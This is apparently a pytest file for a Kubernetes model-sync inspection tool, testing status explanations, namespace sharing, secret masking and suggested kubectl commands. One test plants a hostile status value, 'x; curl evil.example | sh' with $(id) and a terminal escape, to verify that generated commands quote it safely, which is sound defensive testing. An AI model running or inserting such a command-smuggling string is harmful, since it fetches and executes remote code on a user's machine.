"""Each trap of modelfs and Datasets is told, and told only where it is true."""

from __future__ import annotations

import shlex
from typing import Any

import pytest
from tests.systems.builders import SYNCED, condition, dataset, decode, facts, meta, model, namespace, source, synced, version

from modeltui.domain import UNKNOWN, Phase, Severity
from modeltui.redaction import MASK
from modeltui.systems.core.types import Job, PersistentVolumeClaim
from modeltui.systems.dataset import explain as explain_dataset
from modeltui.systems.modelfs import explain, explain_source
from modeltui.systems.modelfs.sharing import share_findings, share_targets
from modeltui.systems.modelfs.types import Share

TOLD = [condition("ReconcileError", "False", "ModelSourceNotFound", 'ModelSource "hf" not found')]


# ---- the banner -------------------------------------------------------------------------------------------------


def test_a_missing_source_is_an_error_with_a_remedy() -> None:
    banner = explain.banner(model(version("v1"), status=[], conditions=TOLD), facts())
    assert banner is not None
    assert banner.severity is Severity.ERROR
    assert banner.reason == 'ModelSource "hf" does not exist in namespace team, so nothing is synced. (reported 2025-11-01 09:30:00 UTC)'
    assert "Create ModelSource" in banner.remedy


def test_a_missing_source_needs_no_condition_to_be_seen() -> None:
    banner = explain.banner(model(version("v1")), facts())
    assert banner is not None
    assert banner.severity is Severity.ERROR


def test_a_condition_whose_cause_is_gone_is_called_stale() -> None:
    banner = explain.banner(model(version("v1"), status=[], conditions=TOLD), facts(source()))
    assert banner is not None
    assert banner.severity is Severity.INFO
    assert "is stale" in banner.reason


def test_a_source_that_is_not_ready_is_the_cause() -> None:
    banner = explain.banner(model(version("v1")), facts(source(ready="False", spec={"secretRef": "hf-token"})))
    assert banner is not None
    assert banner.severity is Severity.ERROR
    assert "secret hf-token is empty" in banner.reason
    assert "does not watch Secrets" in banner.remedy


def test_a_source_of_a_type_that_modelfs_cannot_use_is_the_cause() -> None:
    banner = explain.banner(model(version("v1")), facts(source(spec={"type": "REFERENCE"})))
    assert banner is not None
    assert banner.severity is Severity.ERROR
    assert "cannot make a Dataset from type REFERENCE" in banner.reason


def test_without_the_right_to_see_sources_nobody_claims_to_know() -> None:
    banner = explain.banner(model(version("v1"), status=[], conditions=TOLD), facts(complete=False))
    assert banner is not None
    assert banner.severity is Severity.WARNING
    assert "is not known" in banner.reason


def test_no_banner_when_all_is_well_or_nothing_is_known() -> None:
    assert explain.banner(model(version("v1")), facts(source())) is None
    assert explain.banner(model(version("v1")), facts(complete=False)) is None


# ---- a Model's findings -----------------------------------------------------------------------------------------


def reasons(found: Any) -> str:
    return "\n".join(finding.reason for finding in found)


def model_reasons(*versions: dict[str, Any], known: Any = None, **extra: Any) -> str:
    return reasons(explain.findings(model(*versions, **extra), known or facts(source()), []))


def test_a_plain_model_has_no_findings() -> None:
    known = facts(source(), dataset("mdl-qwen-v1"))
    assert explain.findings(model(version("v1"), status=[synced("v1", "READY")]), known, []) == []


@pytest.mark.parametrize("revision", ["", "main"])
def test_the_default_revision_is_no_finding(revision: str) -> None:
    assert "revision" not in model_reasons(version("v1", revision=revision))


def test_a_pinned_revision_is_not_honoured() -> None:
    assert 'asks for revision "v2.1", which is not honoured' in model_reasons(version("v1", revision="v2.1"))


def test_no_storage_means_100_ti() -> None:
    assert "modelfs asks for 100Ti" in model_reasons(version("v1", storage=None))


def test_two_versions_of_one_name() -> None:
    assert 'Version name "v1" stands 2 times' in model_reasons(version("v1"), version("v1"))


def test_a_dataset_that_is_gone_is_found_only_when_datasets_are_known() -> None:
    status = [synced("v1", "READY")]
    assert "dataset mdl-qwen-v1 is not there" in model_reasons(version("v1"), status=status)
    assert "is not there" not in model_reasons(version("v1"), status=status, known=facts(source(), complete=False))


def test_progress_is_not_invented() -> None:
    assert "no field reports how far" in model_reasons(version("v1"), status=[synced("v1", "PROCESSING")])


def test_an_absent_version_whose_data_is_still_there() -> None:
    known = facts(source(), dataset("mdl-qwen-v1"))
    assert "is still there, and its volume with it" in model_reasons(version("v1", state="ABSENT", storage=None), known=known)


def test_errors_come_first() -> None:
    found = explain.findings(
        model(version("v1", share={"enabled": True}), status=[synced("v1", "FAILED")]),
        facts(source(), dataset("mdl-qwen-v1", "FAILED")),
        None,
    )
    assert [finding.severity for finding in found] == [Severity.ERROR, Severity.WARNING, Severity.INFO]


# ---- a Model's lines --------------------------------------------------------------------------------------------


def test_the_line_of_a_version() -> None:
    status = [synced("v1", "READY", pvcName="pvc-1", observedStorage="12Gi", observedVersionHash="0a1b2c3d")]
    (line,) = explain.version_details(model(version("v1", precision="FP16"), status=status), facts(source()), [])
    assert (line.source, line.precision, line.wanted) == ("Qwen/Qwen2@main", "FP16", "PRESENT")
    assert (line.requested, line.observed, line.pvc, line.hash) == ("12Gi", "12Gi", "pvc-1", "0a1b2c3d")
    assert (line.status.phase, line.status.raw, line.dataset) == (Phase.READY, "READY", "mdl-qwen-v1")
    assert ("the claim", "kubectl -n team get pvc pvc-1") in explain.snippets("team", line)
    assert any(command.endswith("logs deploy/modelfs-controller -n modelfs-system") for _, command in explain.snippets("team", line))


def test_what_a_status_names_is_one_word_to_a_shell() -> None:
    """The commands are there to be copied, and whoever may write a status may put anything there."""
    evil = "x; curl evil.example | sh\n$(id) \x1b[201~`id` 'y'"
    status = [synced("v1", "READY", pvcName=evil, activeDataset=evil)]
    (line,) = explain.version_details(model(version("v1"), status=status), facts(source()), [])
    odd = dataset("d", syncRoundStatuses=[{"round": 3, "jobName": evil}], pvcName=evil)
    commands = [*explain.snippets("team", line), *explain_source.snippets(source(secretRef=evil)), *explain_dataset.snippets(odd)]
    hostile = [command for _, command in commands if "evil" in command]
    assert len(hostile) == 5
    for command in hostile:
        assert command.isprintable()
        assert sum("evil" in word for word in shlex.split(command)) == 1
        assert [word for word in shlex.split(command) if word in (";", "|", "sh")] == []


def test_what_nobody_reported_is_unknown_and_no_claim_is_guessed() -> None:
    (line,) = explain.version_details(model(version("v1")), facts(source()), None)
    assert (line.observed, line.pvc, line.hash) == (UNKNOWN, UNKNOWN, UNKNOWN)
    assert not any("get pvc" in command for _, command in explain.snippets("team", line))


def test_why_this_status_names_each_version_that_is_not_ready() -> None:
    failing = dataset("mdl-qwen-v2", "FAILED", conditions=[condition("Job", "False", message="BackoffLimitExceeded")])
    lines = explain.why_this_status(
        model(version("v1"), version("v2"), status=[synced("v1", "READY"), synced("v2", "FAILED")]), facts(source(), failing)
    )
    assert lines == [
        "Failed: the worst of 2 wanted versions, of which 1 is ready.",
        "Version v2 is Failed: dataset mdl-qwen-v2: Job: BackoffLimitExceeded",
    ]


# ---- sharing ----------------------------------------------------------------------------------------------------

NAMESPACES = [
    namespace("team", team="nlp"),
    namespace("a", team="nlp", share="yes"),
    namespace("b", team="nlp"),
    namespace("c", share="yes"),
]


@pytest.mark.parametrize(
    ("share", "expected", "summary"),
    [
        ({"enabled": True, "namespaceSelector": {"matchLabels": {"team": "nlp"}}}, ("a", "b"), "2 namespaces"),
        ({"enabled": True, "namespaceSelector": {"matchLabels": {"team": "nlp"}}, "requireOptInLabel": "share"}, ("a",), "1 namespace"),
        ({"enabled": True, "requireOptInLabel": "share=yes"}, ("a", "c"), "2 namespaces"),
        ({"enabled": True, "requireOptInLabel": "share=no"}, (), "no namespace matches"),
        ({"enabled": False}, (), "no"),
    ],
)
def test_the_namespaces_that_a_share_means(share: dict[str, Any], expected: tuple[str, ...], summary: str) -> None:
    targets = share_targets(decode(Share, share), "team", NAMESPACES)  # type: ignore[type-var]  # a Share is no Object
    assert targets.namespaces == expected
    assert targets.summary == summary


def test_zero_matches_and_unknown_are_told_apart() -> None:
    share = Share(enabled=True, require_opt_in_label="none")
    assert "No other namespace matches label none" in reasons(share_findings(share_targets(share, "team", NAMESPACES), "f"))
    assert "is unknown" in reasons(share_findings(share_targets(share, "team", None), "f"))


def test_sharing_that_cannot_work_is_told_but_only_when_it_is_wanted() -> None:
    assert "does not work" in model_reasons(version("v1", share={"enabled": True}))
    assert "does not work" not in model_reasons(version("v1", share={"enabled": False}))


# ---- a ModelSource ----------------------------------------------------------------------------------------------


def test_referring_models_are_named_or_unknown() -> None:
    assert explain_source.referring_models(source(), facts(model(version("v1"), name="b"), model(version("v1"), name="a"))) == ("a", "b")
    assert explain_source.referring_models(source(), facts(complete=False)) is None


def test_the_credentials_with_their_time() -> None:
    assert explain_source.credentials_sentence(source()) == (
        "CredentialsReady is True since 2025-11-01 09:30:00 UTC (SecretValid): Secret is valid and accessible"
    )


def test_a_source_with_a_secret_says_where_its_values_end_up() -> None:
    found = reasons(explain_source.findings(source(spec={"secretRef": "hf-token"}), facts()))
    assert 'Every value of Secret "hf-token" is copied in clear' in found
    assert "copied in clear" not in reasons(explain_source.findings(source(), facts()))


def test_a_secret_in_the_settings_is_found_and_masked() -> None:
    told = source(spec={"config": {"token": "s3cr3tvalue", "endpoint": "https://m.example"}})
    found = reasons(explain_source.findings(told, facts()))
    assert f"Setting token holds {MASK}" in found
    lines = explain_source.config_lines(told)
    assert lines == [("endpoint", "https://m.example", "address of a mirror of the Hub"), ("token", MASK, "")]
    assert "s3cr3tvalue" not in found


def test_a_type_that_modelfs_cannot_use() -> None:
    found = explain_source.findings(source(spec={"type": "CONDA"}), facts())
    assert found[0].severity is Severity.ERROR
    assert "modelfs cannot make Datasets from type CONDA" in found[0].reason


def test_a_deleted_source_names_the_models_it_waits_for() -> None:
    found = reasons(explain_source.findings(source(deletionTimestamp=SYNCED), facts(model(version("v1")))))
    assert "waits for what refers to it: qwen" in found


# ---- a Dataset --------------------------------------------------------------------------------------------------


def test_options_are_masked_and_told_of() -> None:
    options = {"HF_TOKEN": "s3cr3tvalue", "endpoint": "https://m.example", "revision": "v2"}
    leaking = dataset("d", spec={"source": {"type": "HUGGING_FACE", "uri": "huggingface://a/b", "options": options}})
    found = reasons(explain_dataset.findings(leaking))
    assert "The options HF_TOKEN may hold secrets in clear" in found
    assert "revision is read, but not passed" in found
    assert explain_dataset.option_lines(leaking) == [("HF_TOKEN", MASK), ("endpoint", "https://m.example"), ("revision", "v2")]


def test_rounds_newest_first_without_a_percentage() -> None:
    rounds = [
        {"round": 1, "jobName": "j1", "startTime": SYNCED, "endTime": SYNCED, "succeed": True},
        {"round": 2, "jobName": "j2", "startTime": SYNCED},
    ]
    running = dataset("d", "PROCESSING", syncRoundStatuses=rounds, inProcessing=True, inProcessingRound=2)
    lines = explain_dataset.round_lines(running)
    assert lines == [
        "round 2: began 2025-11-01 09:30:00 UTC, under way (job j2)",
        "round 1: began 2025-11-01 09:30:00 UTC, succeeded 2025-11-01 09:30:00 UTC (job j1)",
    ]
    assert "%" not in "".join(lines)


def test_a_failed_round_has_neither_end_nor_verdict_and_is_not_under_way() -> None:
    failed = dataset("d", "FAILED", syncRoundStatuses=[{"round": 1, "jobName": "j1", "startTime": SYNCED}])
    assert explain_dataset.round_lines(failed) == ["round 1: began 2025-11-01 09:30:00 UTC, did not succeed (job j1)"]
    assert "Round 1 did not succeed; the log of job j1 says why" in reasons(explain_dataset.findings(failed))


def test_a_controller_without_its_configuration_is_seen_by_its_image() -> None:
    spec = {"template": {"spec": {"containers": [{"name": "x", "image": "docker.io/library/ubuntu:24.04"}]}}}
    job = decode(Job, {"metadata": meta("j"), "spec": spec})
    assert "rounds succeed without fetching anything" in reasons(explain_dataset.findings(dataset("d"), jobs=[job]))


def test_a_failed_job_and_an_unbound_claim() -> None:
    job = decode(Job, {"metadata": meta("j"), "status": {"conditions": [condition("Failed", "True", "BackoffLimitExceeded", "4 tries")]}})
    claim = decode(PersistentVolumeClaim, {"metadata": meta("p"), "status": {"phase": "Pending"}})
    found = reasons(explain_dataset.findings(dataset("d", "FAILED"), jobs=[job], claim=claim))
    assert "Job j failed: 4 tries" in found
    assert "Claim p is Pending, not Bound" in found


def test_the_log_is_that_of_the_job_that_the_status_names() -> None:
    named = dataset("d", syncRoundStatuses=[{"round": 3, "jobName": "odd-name"}])
    assert "kubectl -n team logs job/odd-name -c dataset-loader" in [command for _, command in explain_dataset.snippets(named)]
